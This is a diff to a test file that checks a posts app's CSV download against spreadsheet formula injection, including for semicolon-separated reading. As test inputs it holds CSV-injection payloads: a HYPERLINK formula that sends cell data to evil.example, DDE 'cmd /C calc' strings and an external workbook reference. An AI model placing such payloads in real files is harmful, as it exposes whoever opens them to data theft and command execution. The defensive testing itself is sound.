@@ -69,11 +69,71 @@ test('the history is downloaded with all that is shown, in the zone of its owner
 
 test('no cell is a formula for a spreadsheet', async () => {
   const actor = await makeUser(db);
-  const texts = ['=1+1', '+1', '-1', '@sum', '\t=1', '\r=1', '＝1', '=a"b,c'];
+  const texts = ['=1+1', '+1', '-1', '@sum', '＝1', '=a"b,c', '\tx', '\rx'];
   for (const content of texts)
     await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: [] });
   const rows = await download(actor);
   assert.deepEqual(rows.map(({ Text }) => Text).sort(), texts.map((text) => `'${text}`).sort());
+});
+
+/** The cells as a spreadsheet reads them whose separator is ";": a quote counts at the start of a cell only. */
+function readBySemicolon(csv: string): string[] {
+  const cells = [];
+  let rest = csv.slice(1);
+  while (rest !== '') {
+    const [whole, quoted = '', bare = ''] =
+      /^(?:"((?:[^"]|"")*)(?:"|$))?([^;\r\n\t]*)(?:[;\t]|\r\n|[\r\n]|$)/.exec(rest)!;
+    cells.push(quoted.replaceAll('""', '"') + bare);
+    rest = rest.slice(whole.length);
+  }
+  return cells;
+}
+
+test('no piece of a text is a formula for a spreadsheet whose separator is a semicolon', async () => {
+  const actor = await makeUser(db);
+  const pieces = [
+    '=1+1',
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    '"=1+1',
+    '""=1+1',
+    '"=1+1"',
+    '＝1+1',
+    `@SUM(1+1)*cmd|' /C calc'!A0`,
+    `+cmd|' /C calc'!A0`,
+    `-cmd|' /C calc'!A0`,
+    `- cmd|' /C calc'!A0`,
+    '-SUM(A1:A9)',
+    '"-SUM(A1:A9)',
+    "+'https://evil.example/[book.xlsx]Sheet'!A1",
+    '＋ＳＵＭ（A1）',
+  ];
+  const breaks = [';', '\n', '\r\n', '\r', '\t', ';;', '\n\n', '";', ';"";'];
+  for (const piece of pieces) {
+    const content = breaks.map((each) => `A line${each}${piece}`).join('\n');
+    await makeScheduledPost(db, actor, { content: `${content};`, dueAt: inDays(1), hashtags: [] });
+  }
+  const csv = await (await (await browserOf(db, actor, origin)).get('/app/posts.csv')).text();
+  const cells = readBySemicolon(`\uFEFF${csv.replace(/^\uFEFF/, '')}`);
+  const formulas = cells.filter((text) => /^[=＝]|^[+\-@＋－＠].*[(|!（｜！]/.test(text));
+  assert.deepEqual(formulas, []);
+  assert.ok(cells.filter((text) => text.startsWith("'")).length >= pieces.length * breaks.length);
+});
+
+test('what people write in lines is downloaded as they wrote it', async () => {
+  const actor = await makeUser(db);
+  const content = [
+    'What I learned:',
+    '- a list item',
+    '-another one; - and more',
+    '+ a plus, @Ada said',
+    '@Ada, thank you',
+    '"- quoted"',
+    'a = b; c = d',
+    '\tindented',
+  ].join('\n');
+  await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: [] });
+  const [row] = await download(actor);
+  assert.equal(row!.Text, content);
 });
 
 test('everything of this user is there and nothing of anybody else, page by page', async () => {
